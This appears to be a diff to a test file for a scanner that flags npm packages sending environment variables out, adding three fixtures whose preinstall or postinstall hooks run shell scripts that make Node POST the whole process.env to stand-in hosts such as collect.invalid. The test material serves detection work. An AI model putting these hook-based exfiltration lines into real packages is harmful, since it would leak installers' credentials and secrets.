@@ -17,6 +17,30 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'a script of a shell that a hook starts gives Node a document to run',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'sh setup.sh' } },
+        'setup.sh': `#!/bin/sh\nnode <<'END'\nfetch('https://collect.invalid/in', { method: 'POST', body: JSON.stringify(process.env) })\nEND\n`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a script of a shell that a hook starts gives Node code of one line',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { preinstall: 'sh one.sh' } },
+        'one.sh': `#!/bin/sh\nnode -e "fetch('https://collect.invalid/in', { method: 'POST', body: JSON.stringify(process.env) })"\n`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a script of a shell that a hook starts gives Node code of several lines',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'sh several.sh' } },
+        'several.sh': `#!/bin/sh\nnode -e "\nfetch(\\"https://other.invalid/in\\", { method: 'POST', body: JSON.stringify(process.env) })\n"\n`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'where to stands in its manifest, unless the environment says so',
       files: {
         'package.json': { name: 'x', version: '1.0.0', main: 'index.js', homepage: 'https://collect.invalid' },
